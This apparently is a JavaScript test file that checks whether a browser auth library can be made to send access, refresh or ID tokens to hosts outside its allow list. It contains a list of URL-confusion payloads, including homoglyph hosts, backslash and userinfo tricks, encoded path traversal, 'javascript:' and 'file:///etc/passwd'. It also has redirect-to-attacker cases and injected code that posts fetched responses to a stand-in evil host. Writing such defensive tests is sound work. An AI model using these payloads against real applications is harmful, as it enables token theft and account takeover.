// T7: have a token sent to where it does not belong.

import assert from "node:assert/strict";

import { startProbe } from "../browser/support/probe.mjs";
import { statusOf } from "../browser/support/calls.mjs";
import { attack } from "./support/attack.mjs";
import { askAll, callAll, callTwoFaced } from "./scripts/off-list.mjs";

const tokens = ["access token", "refresh token", "ID token"];
const REFUSED = /^TOKENKEEP_(TARGET|REDIRECT|REQUEST)_REFUSED$/;

/** URLs that look like the API's, or that a parser may take for it, or that lead elsewhere. */
function targetsOf({ front: { port }, origins, evil, api }) {
  const plain = `evil.test:${port}`;
  return [
    `${origins.evil}/`,
    `https://api.${plain}/v1/files`,
    `https://api.rig.test.${plain}/v1/files`,
    `https://api.rig.test:${port}@${plain}/v1/files`,
    `https://api.rig.test%2f@${plain}/v1/files`,
    `//${plain}/v1/files`,
    `\\\\${plain}/v1/files`,
    `/\\${plain}/v1/files`,
    `https:\\\\${plain}\\v1\\files`,
    `https:/${plain}/v1/files`,
    `https://${plain}#@api.rig.test:${port}/v1/files`,
    `https://${plain}?@api.rig.test:${port}/v1/files`,
    `https://xn--pi-8lc.rig.test:${port}/v1/files`,
    `https://\u0430pi.rig.test:${port}/v1/files`,
    `https://api.rig.test.:${port}/v1/files`,
    `https://sub.api.rig.test:${port}/v1/files`,
    `https://rig.test:${port}/v1/files`,
    `https://api.rig.test:${api.port}/v1/files`,
    `https://api.rig.test/v1/files`,
    `http://api.rig.test:${port}/v1/files`,
    `http://evil.test:${evil.port}/v1/files`,
    `https://127.0.0.1:${port}/v1/files`,
    `https://localhost:${port}/v1/files`,
    `${origins.api}/v2/files`,
    `${origins.api}/v1x/files`,
    `${origins.api}/v1/../evil`,
    `${origins.api}/v1/%2e%2e/evil`,
    `${origins.api}/v1/..%2fevil`,
    `${origins.api}/v1%2ffiles`,
    `${origins.api}//v1/files`,
    `blob:${origins.api}/0b3f0f84-54b4-4d0a-9f9c-7f1a6f3a7f2e`,
    "data:text/plain,hello",
    "javascript:fetch()",
    "file:///etc/passwd",
    `ws://api.rig.test:${port}/v1/files`,
    `wss://api.rig.test:${port}/v1/files`,
    "about:blank",
    "",
  ];
}

const inits = [{}, { method: "POST", body: "x" }, { redirect: "follow", mode: "no-cors", credentials: "include" }];
const messages = [{}, { method: "POST", body: "x" }, { redirect: "follow" }, { mode: "no-cors" }, { options: { timeout: 1, retry: true } }];

attack(
  {
    id: "T7",
    threat: "S7",
    title: "have the library call hosts, ports, schemes and paths that are not on the list (USE-3, USE-4, USE-5)",
    share: "signed in",
    outcome: "stopped",
  },
  async (rig) => {
    const page = await ready(rig);
    const outcomes = await rig.inject(page, callAll, { targets: targetsOf(rig), inits });
    return verdict(rig, outcomes);
  },
);

attack(
  {
    id: "T7",
    threat: "S7",
    title: "the same by messages to the holder, past the library in the page (USE-8, MSG-2)",
    modes: ["worker", "shared", "own"],
    share: "signed in",
    outcome: "stopped",
  },
  async (rig, { mode }) => {
    const signedIn = await ready(rig);
    const page = mode === "worker" ? signedIn : await rig.open("/bare.html");
    // What is relative is the page's affair.
    const targets = targetsOf(rig).filter((target) => !/^[\\/]|^$/.test(target));
    return verdict(rig, await rig.inject(page, askAll, { targets, inits: messages }));
  },
);

attack(
  {
    id: "T7",
    threat: "S7",
    title: "URLs that change between the check and the use (USE-3, USE-8)",
    share: "signed in",
    outcome: "stopped",
  },
  async (rig) => {
    const page = await ready(rig);
    const outcomes = await rig.inject(page, callTwoFaced, { good: rig.v1("files"), bad: `${rig.origins.evil}/v1/files` });
    assert.ok(outcomes.includes(200), `nothing looked good: ${outcomes}`);
    return rig.evil.requests.length === 0 ? rig.verdict(...tokens) : ["works", "a request left"];
  },
);

attack(
  {
    id: "T7",
    threat: "S7",
    title: "have the API redirect to the attacker, and to itself: 302, 303, 307, 308 (USE-7)",
    share: "signed in",
    outcome: "stopped",
  },
  async (rig) => {
    const page = await ready(rig);
    const [inside, outside] = [`${rig.origins.api}/v1/files`, `${rig.origins.evil}/stolen`].map(encodeURIComponent);
    const targets = [302, 303, 307, 308].flatMap((status) =>
      [outside, inside].map((to) => `${rig.v1("redirect")}?status=${status}&to=${to}`),
    );
    const outcomes = await rig.inject(page, callAll, { targets, inits });
    assert.equal(rig.api.requests.filter(({ path, hadToken }) => path === "/v1/redirect" && hadToken).length, targets.length * 2);
    assert.deepEqual(
      rig.api.requests.filter(({ path }) => path === "/v1/files"),
      [],
      "the redirect inside of the API was followed",
    );
    return verdict(rig, outcomes);
  },
);

attack(
  {
    id: "T7b",
    threat: "S7",
    title: "an API on the list that tells what headers it was sent (MSG-8)",
    rig: { config: ({ origins }) => ({ resourceServers: [`${origins.api}/v1/`, `${origins.api.replace("api.", "leaky.")}/`] }) },
    outcome: "works",
  },
  async (rig, { t }) => {
    const tell = ({ request, response }) =>
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(request.headers));
    const leaky = await startProbe({ answer: tell });
    t.after(leaky.close);
    rig.front.routes["leaky.rig.test"] = leaky.origin;
    const page = await rig.signedIn();
    await rig.inject(
      page,
      async (evil, { url, files }) => {
        const answer = await app.auth.fetch(files);
        await evil.post(`${evil.strings([answer, answer.headers, answer.url, answer.type]).join()}${await answer.text()}`);
      },
      { files: rig.v1("files") },
    );
    assert.ok(rig.evil.text().includes("bailey.txt"));
    assert.deepEqual(rig.stolen(...tokens), [], "an answer has what the API did not send");
    await rig.inject(
      page,
      async (evil, url) => evil.post(await (await app.auth.fetch(url)).text()),
      `${rig.origins.api.replace("api.", "leaky.")}/headers`,
    );
    return rig.verdict(...tokens);
  },
);

/** The signed-in page of a rig that these attacks share, with nothing recorded yet. */
async function ready(rig) {
  rig.kept ??= await rig.signedIn();
  assert.equal(await statusOf(rig.kept, rig.v1("files")), 200);
  rig.sinceNow();
  rig.api.reset();
  return rig.kept;
}

/** Each call was refused, and no token went anywhere. */
function verdict(rig, outcomes) {
  const wrong = Object.entries(outcomes).filter(([target, said]) => {
    const expected = URL.canParse(target, rig.origins.app) ? REFUSED : /^TypeError$/;
    return !said.every((one) => expected.test(one));
  });
  const carried = rig.evil.requests.filter(({ headers }) => headers.authorization || headers.dpop);
  const offPath = rig.api.requests.filter(({ path, hadToken }) => hadToken && !path.startsWith("/v1/"));
  if (wrong.length || carried.length || offPath.length) return ["works", JSON.stringify([wrong, carried.length, offPath])];
  return rig.verdict(...tokens);
}
